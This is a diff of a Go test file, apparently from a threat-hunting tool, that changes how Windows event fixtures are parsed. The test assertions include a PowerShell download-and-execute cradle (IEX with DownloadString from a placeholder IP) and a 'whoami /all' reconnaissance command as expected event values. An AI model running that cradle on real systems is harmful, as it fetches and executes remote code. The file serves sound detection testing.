@@ -8,6 +8,8 @@ import (
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+
+	"github.com/sleuth-hunt/sleuth/internal/catalog"
 )
 
 // The fixtures in testdata hold the same eight events (Sysmon 1, 3, 11, 13;
@@ -64,7 +66,7 @@ func additional(t *testing.T, row map[string]any) map[string]any {
 	t.Helper()
 	var m map[string]any
 	switch x := row["AdditionalFields"].(type) {
-	case json.RawMessage:
+	case catalog.JSON:
 		if err := json.Unmarshal(x, &m); err != nil {
 			t.Fatalf("AdditionalFields %s: %v", x, err)
 		}
@@ -303,7 +305,7 @@ func TestPowerShellScriptBlock(t *testing.T) {
 			t.Errorf("WindowsEvent (-want +got):\n%s", d)
 		}
 		var data map[string]any
-		if err := json.Unmarshal(row["EventData"].(json.RawMessage), &data); err != nil {
+		if err := json.Unmarshal(row["EventData"].(catalog.JSON), &data); err != nil {
 			t.Fatal(err)
 		}
 		if data["ScriptBlockText"] != "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')" {
@@ -322,7 +324,7 @@ func TestEveryEventInWindowsEvent(t *testing.T) {
 		}
 		for _, r := range rows {
 			var data map[string]any
-			if err := json.Unmarshal(r["EventData"].(json.RawMessage), &data); err != nil {
+			if err := json.Unmarshal(r["EventData"].(catalog.JSON), &data); err != nil {
 				t.Fatal(err)
 			}
 			if r["EventID"] == int64(1) && (data["CommandLine"] != `cmd.exe /c "whoami /all"` || data["Hashes"] == nil) {
